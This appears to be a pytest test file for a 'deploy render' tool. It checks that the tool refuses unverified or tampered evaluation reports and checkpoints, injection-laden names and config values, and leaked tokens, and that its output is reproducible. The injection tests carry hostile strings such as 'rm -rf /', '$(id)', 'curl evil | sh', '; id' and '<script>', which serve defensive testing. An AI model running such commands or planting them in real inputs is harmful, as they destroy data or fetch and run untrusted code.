"""`deploy render`: what it refuses, what it leaves alone, and what it writes."""

import json
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from deployment import BASE, BASE_DIGEST, make_checkpoint, make_report, rendered

from deploy import cli, render
from deploy.spec import TARGETS
from evalsuite.compare import NANO_NOTE
from serve import memory
from tune import artefact, checkpoint
from tune.errors import UserError
from tune.recipe import Recipe, Serve

ROOT = Path(__file__).parent.parent


@pytest.fixture
def inputs(tmp_path):
    """Arguments of render.render that succeed."""
    made = make_checkpoint(tmp_path / "merged")
    proof = make_report(tmp_path / "report.json", made)
    return {"recipe": Recipe(), "checkpoint": made.folder, "report": proof, "out": tmp_path / "out"}


def refusal(inputs, target="modal"):
    """What the refused render says; nothing may have been written."""
    with pytest.raises(UserError) as caught:
        render.render(target, **inputs)
    assert caught.value.exit_code == 2
    assert not inputs["out"].exists()
    assert not list(inputs["out"].parent.glob(".out-*"))
    return caught.value.message


def test_no_report_no_render(inputs):
    inputs["report"].unlink()
    message = refusal(inputs)
    assert "D002 there is no report" in message
    assert "evalsuite compare" in message


@pytest.mark.parametrize("outcome", ["FAIL", "INCONCLUSIVE", "INVALID"])
def test_only_a_pass_renders(inputs, outcome):
    made = checkpoint.read(inputs["checkpoint"])
    make_report(inputs["report"], made, outcome)
    message = refusal(inputs)
    assert f"says {outcome}" in message
    assert "why: " in message


def test_a_report_edited_into_a_pass_is_refused(inputs):
    made = checkpoint.read(inputs["checkpoint"])
    make_report(inputs["report"], made, "FAIL")
    inputs["report"].write_text(inputs["report"].read_text().replace('"FAIL"', '"PASS"'))
    assert "changed after it was written" in refusal(inputs)


def test_a_report_cut_short_is_refused(inputs):
    inputs["report"].write_bytes(inputs["report"].read_bytes()[:200])
    assert "is not JSON" in refusal(inputs)


def test_a_report_about_another_checkpoint_is_refused(inputs, tmp_path):
    other = make_checkpoint(tmp_path / "other", name="another")
    make_report(inputs["report"], other)
    message = refusal(inputs)
    assert other.served_name in message
    assert "is about" in message


def test_a_report_against_another_base_is_refused(inputs):
    made = checkpoint.read(inputs["checkpoint"])
    make_report(inputs["report"], made, base="gpt-oss-20b@fedcba9876543210")
    message = refusal(inputs)
    assert "was measured against 'gpt-oss-20b@fedcba9876543210', not against the base" in message
    assert BASE in message


@pytest.mark.parametrize(
    ("served", "known"),
    [
        ("openai/gpt-oss-20b@6cee5e81ee839171", True),
        ("openai/gpt-oss-20b", True),
        ("gpt-oss-20b", True),
        ("openai/gpt-oss-20b@0000000000000000", False),
        ("openai/gpt-oss-120b", False),
        ("tiny@6cee5e81ee839171", False),
    ],
)
@pytest.mark.parametrize("base_digest", ["6cee5e81ee83917181" + "0" * 22, ""])
def test_a_base_from_the_hub_is_known_by_its_name_alone(tmp_path, inputs, served, known, base_digest):
    made = make_checkpoint(tmp_path / "hub", base="openai/gpt-oss-20b@6cee5e81ee839171", base_digest=base_digest)
    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made, base=served)}
    if not known:
        assert "not against the base" in refusal(inputs)
        return
    assert render.render("modal", **inputs).deployment.receipt.base_known_by == "name"
    assert "known by its name alone" in (inputs["out"] / "README.md").read_text()


def test_a_checkpoint_of_no_base_is_refused(tmp_path, inputs):
    made = make_checkpoint(tmp_path / "nano", base="", base_digest="")
    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "n.json", made, base="any")}
    assert "not against the base" in refusal(inputs)


def test_same_name_other_weights_is_another_checkpoint(inputs):
    weights = inputs["checkpoint"] / "config.json"
    weights.write_text(weights.read_text() + " ")
    artefact_before = artefact.read(inputs["checkpoint"], "checkpoint", remake="")
    artefact.finish(inputs["checkpoint"], "checkpoint", settings=artefact_before.settings)
    assert "not about python-docs@" in refusal(inputs)


def test_a_tampered_checkpoint_is_refused(inputs):
    weights = inputs["checkpoint"] / "model.safetensors"
    data = bytearray(weights.read_bytes())
    data[-1] ^= 1
    weights.write_bytes(data)
    assert "is not the file that checkpoint.json describes" in refusal(inputs)


def test_a_half_written_checkpoint_is_refused(inputs):
    (inputs["checkpoint"] / "checkpoint.json").unlink()
    assert "interrupted" in refusal(inputs)


def test_an_adapter_alone_is_refused(inputs, tmp_path):
    made = make_checkpoint(tmp_path / "lora", format="lora")
    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "l.json", made)}
    assert "D003" in refusal(inputs)


@pytest.mark.parametrize(
    "name", ['x"; rm -rf /', "$(id)", "Über", "a\nb", "../../etc", "-x y", "{{ d.env }}", "x" * 60]
)
def test_a_hostile_name_in_a_manifest_is_refused(inputs, tmp_path, name):
    made = make_checkpoint(tmp_path / "hostile", name=name)
    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made)}
    assert "D004" in refusal(inputs)


def test_a_hostile_base_name_in_a_report_is_refused(inputs):
    made = checkpoint.read(inputs["checkpoint"])
    make_report(inputs["report"], made, base=f"base`\n\n    curl evil | sh@{BASE_DIGEST[:16]}")
    message = refusal(inputs)
    assert "not safe to render" in message
    assert "curl" not in message
    make_report(inputs["report"], made, base="\x1b[2J")
    assert "\x1b" not in refusal(inputs)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("registry", "docker.io/x; id"),
        ("registry", "-x"),
        ("region", "us-east-1 --debug"),
        ("gpu", "H100\nprint(1)"),
        ("secrets", {"HF_TOKEN": "name; id"}),
        ("secrets", {"lower": "name"}),
        ("min_replicas", -1),
        ("idle_seconds", 4000),
    ],
)
def test_a_hostile_recipe_value_is_refused(tmp_path, key, value):
    text = (
        f"[deploy]\n{key} = {json.dumps(value)}\n"
        if key != "secrets"
        else ("[deploy.secrets]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in value.items()))
    )
    (tmp_path / "recipe.toml").write_text(text)
    arguments = ["--checkpoint", "x", "--report", "y", "--out", "z", "--recipe", str(tmp_path / "recipe.toml")]
    result = CliRunner().invoke(cli.main, ["render", "modal", *arguments])
    assert result.exit_code == 2
    assert "recipe.toml has 1 problem" in result.output


@pytest.mark.parametrize("note", ["a | b", "a\nb", "`x`", "<script>", "[a](b)", "x" * 301])
def test_a_hostile_note_in_a_report_is_refused(inputs, note):
    made = checkpoint.read(inputs["checkpoint"])
    make_report(inputs["report"], made, note=note)
    assert "not safe to render" in refusal(inputs)


def test_the_note_of_the_report_is_shown(inputs):
    made = checkpoint.read(inputs["checkpoint"])
    render.render("modal", **inputs)
    assert f"**{NANO_NOTE}** |" in (inputs["out"] / "README.md").read_text()
    make_report(inputs["report"], made, note="")
    render.render("modal", **inputs)
    assert "**" not in (inputs["out"] / "README.md").read_text().split("| engine")[0]


def test_a_project_named_models_keeps_its_folder_in_the_volume(inputs, tmp_path):
    made = make_checkpoint(tmp_path / "models", name="models")
    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "m.json", made)}
    deployment = render.render("modal", **inputs).deployment
    (put,) = [line for line in (inputs["out"] / "README.md").read_text().splitlines() if "volume put" in line]
    assert "/models" + put.split()[-1] == deployment.model_path


def test_every_error_is_named_at_once(inputs):
    inputs["report"].unlink()
    inputs["recipe"] = Recipe.model_validate({"deploy": {"gpu": "H1000"}})
    message = refusal(inputs)
    assert "2 errors" in message
    assert "D002" in message
    assert "D010" in message


def test_a_secret_in_a_name_is_refused_and_not_repeated(inputs):
    token = "hf_" + "a1B2" * 8
    inputs["recipe"] = Recipe.model_validate({"deploy": {"secrets": {"HF_TOKEN": token}}})
    message = refusal(inputs)
    assert "D030" in message
    assert "Hugging Face token" in message
    assert token not in message


def test_a_secret_in_a_rendered_text_is_refused(inputs, tmp_path):
    token = "hf_" + "a1B2" * 8
    inputs["checkpoint"] = inputs["checkpoint"].rename(tmp_path / token)  # READMEs name the folder
    message = refusal(inputs)
    assert "D030 README.md" in message
    assert token not in message


@pytest.mark.parametrize("target", TARGETS)
def test_the_same_inputs_give_the_same_bytes(tmp_path, target):
    folders = [rendered(tmp_path / side, target) for side in ("a", "b")]
    trees = [{p.relative_to(f): p.read_bytes() for p in f.rglob("*") if p.is_file()} for f in folders]
    assert trees[0] == trees[1]
    assert len(trees[0]) > 20


@pytest.mark.parametrize("target", TARGETS)
def test_no_rendered_byte_knows_this_machine(tmp_path, target):
    out = rendered(tmp_path, target)
    for path in (p for p in out.rglob("*") if p.is_file()):
        text = path.read_text()
        assert str(tmp_path) not in text, path
        assert sys.prefix not in text, path


@pytest.mark.parametrize("target", TARGETS)
def test_the_manifest_ties_the_folder_to_checkpoint_and_report(tmp_path, target):
    out = rendered(tmp_path, target)
    made = artefact.read(out, "deployment", remake="")
    artefact.verify(out, made, remake="")
    checkpoint = artefact.read(tmp_path / "merged", "checkpoint", remake="")
    assert made.inputs == {
        "checkpoint": checkpoint.digest,
        "report": artefact.file_digest(tmp_path / "report.json"),
    }
    deployment = made.settings["deployment"]
    assert deployment["args"][:3] == ["python3", "-m", "serve.launcher"]
    args = deployment["args"]
    assert args[args.index("--model") + 1] == deployment["model_path"]
    assert args[args.index("--port") + 1] == str(deployment["port"])
    inside = target == "runpod"  # whose queue has its worker in the container; any other gateway is another machine
    assert args[args.index("--host") + 1] == ("127.0.0.1" if inside else "0.0.0.0")
    assert checkpoint.digest[:16] in deployment["model"]


def test_the_engine_is_told_what_its_memory_was_reckoned_with(inputs):
    deployment = render.render("modal", **inputs).deployment
    told, reckoned = deployment.args, deployment.options.tuning
    assert float(told[told.index("--gpu-memory-utilization") + 1]) == reckoned.utilisation == 0.92
    assert int(told[told.index("--max-num-batched-tokens") + 1]) == reckoned.batched_tokens == memory.BATCH


def test_the_recipes_serving_reaches_the_server(inputs):
    serve = {
        "default_effort": "low",
        "max_effort": "medium",
        "allowed_efforts": ("low", "medium"),
        "spelling": "strict",
        "thinking_tokens": {"low": 7},
        "keys": "keys.toml",
        "reasoning_content": True,
        "strict_format": True,
        "max_model_len": 4096,
        "profile": "latency",
        "tensor_parallel": 1,
        "data_parallel": 2,
        "drain": 3,
        "hang_after": 4,
        "max_body": 9,
        "max_concurrent": 5,
        "raw_completions": True,
        "adapters": {"mine": "work/lora"},
        "adapter_rank": 32,
        "adapter_slots": 3,
    }
    assert serve.keys() == Serve.model_fields.keys(), "a new key of [serve] needs its place here"
    inputs["recipe"] = Recipe.model_validate({"serve": serve})
    deployment = render.render("modal", **inputs).deployment
    told = json.loads(deployment.env["GPTOSS_SERVE_SETTINGS"])
    assert (told["policy"]["default"], told["policy"]["maximum"], told["policy"]["spelling"]) == (
        "low",
        "medium",
        "strict",
    )
    assert told["policy"]["thinking_tokens"] == {"low": 7}
    assert told["policy"]["allowed"] == ["low", "medium"]
    assert told["keys"] == ""  # a file of this machine, as adapters are
    assert not {"--enable-lora", "--max-lora-rank"} & {*deployment.args}
    same = ("max_model_len", "drain", "max_body", "max_concurrent", "raw_completions", "reasoning_content")
    same = (*same, "strict_format")
    assert {k: told[k] for k in same} == {k: serve[k] for k in same}
    assert deployment.env["VLLM_SYSTEM_START_DATE"] == "2026-01-01"
    assert deployment.args[deployment.args.index("--max-model-len") + 1] == "4096"
    assert shlex.join(deployment.args).endswith("--max-num-batched-tokens 2048 --data-parallel-size 2")
    assert (deployment.gpus, deployment.machine) == (2, "H100:2")
    assert "| GPU | 2 x H100 (`H100:2`) |" in (inputs["out"] / "README.md").read_text()
    assert "low; a higher one than medium is lowered to it" in (inputs["out"] / "README.md").read_text()


@pytest.mark.parametrize("target", TARGETS)
def test_the_readme_says_what_is_proven_and_what_is_not(tmp_path, target, golden):
    out = rendered(tmp_path, target)
    readme = (out / "README.md").read_text()
    golden(f"deploy/{target}/README.md", readme)
    assert "Not tried live" in readme


@pytest.mark.parametrize("target", TARGETS)
def test_the_readme_has_each_command_for_this_folder_and_no_key_in_an_argument(tmp_path, target):
    readme = (rendered(tmp_path, target) / "README.md").read_text()
    for command in ("push", "status", "logs", "rollback", "destroy"):
        assert f"\n    deploy {command} .\n" in readme
    assert "FOLDER" not in readme
    assert not re.findall(r'(?m)^.*--header "?Authorization.*$', readme)  # every process of the machine could read it


@pytest.mark.parametrize("target", ["compose", "runpod", "sagemaker", "huggingface"])
def test_the_dockerfile(tmp_path, target, golden):
    out = rendered(tmp_path, target)
    golden(f"deploy/{target}/Dockerfile", (out / "Dockerfile").read_text())


def test_rendering_again_replaces_what_was_rendered(inputs):
    render.render("runpod", **inputs)
    (inputs["out"] / "__pycache__").mkdir()
    (inputs["out"] / "__pycache__" / "app.pyc").write_bytes(b"")
    inputs["recipe"] = Recipe.model_validate({"deploy": {"gpu": "H200"}})
    render.render("modal", **inputs)
    assert not (inputs["out"] / "endpoint.json").exists()
    assert "H200" in (inputs["out"] / "README.md").read_text()


@pytest.mark.parametrize("fault", ["foreign", "beside", "edited"])
def test_files_of_others_are_never_overwritten(inputs, fault):
    out = inputs["out"]
    if fault == "foreign":
        out.mkdir()
    else:
        render.render("modal", **inputs)
    theirs = out / ("README.md" if fault == "edited" else "notes.txt")
    theirs.write_text("mine")
    with pytest.raises(UserError, match="did not write") as caught:
        render.render("modal", **inputs)
    assert theirs.name in caught.value.message
    assert theirs.read_text() == "mine"


def test_a_killed_render_leaves_the_old_folder(inputs, monkeypatch):
    render.render("modal", **inputs)
    before = {p: p.read_bytes() for p in inputs["out"].rglob("*") if p.is_file()}

    def killed(*_args, **_kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(artefact, "finish", killed)
    inputs["recipe"] = Recipe.model_validate({"deploy": {"gpu": "H200"}})
    with pytest.raises(KeyboardInterrupt):
        render.render("modal", **inputs)
    assert {p: p.read_bytes() for p in inputs["out"].rglob("*") if p.is_file()} == before
    monkeypatch.undo()
    render.render("modal", **inputs)
    assert not list(inputs["out"].parent.glob(".out-*"))


def test_the_command_line_renders_and_warns(inputs):
    arguments = ["--checkpoint", inputs["checkpoint"], "--report", inputs["report"], "--out", inputs["out"], "--json"]
    result = CliRunner().invoke(cli.main, ["render", "runpod", *map(str, arguments)])
    assert result.exit_code == 0, result.output
    made = json.loads(result.stdout)
    needed = {"endpoint.json", "Dockerfile", "start.py", "handler.py", "README.md", "kit/serve/launcher.py"}
    assert needed <= set(made["files"])
    assert "warning D013" in result.stderr
    assert "warning D050" in result.stderr


def test_the_wheel_carries_what_a_render_needs(tmp_path):
    source = tmp_path / "source"
    source.mkdir()
    for name in ("tune", "serve", "evalsuite", "deploy"):
        shutil.copytree(ROOT / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "pyproject.toml", source)
    (source / "README.md").write_text("")
    flags = ["--no-deps", "--no-build-isolation", "--no-index", "--quiet"]
    subprocess.run([sys.executable, "-m", "pip", "wheel", *flags, "-w", tmp_path, source], check=True)
    (wheel,) = tmp_path.glob("*.whl")
    inside = set(zipfile.ZipFile(wheel).namelist())
    needed = {
        p.relative_to(ROOT).as_posix()
        for p in (ROOT / "deploy").rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }
    assert "deploy/hardware.toml" in needed
    assert "deploy/targets/modal/app.py" in needed
    assert needed - inside == set()
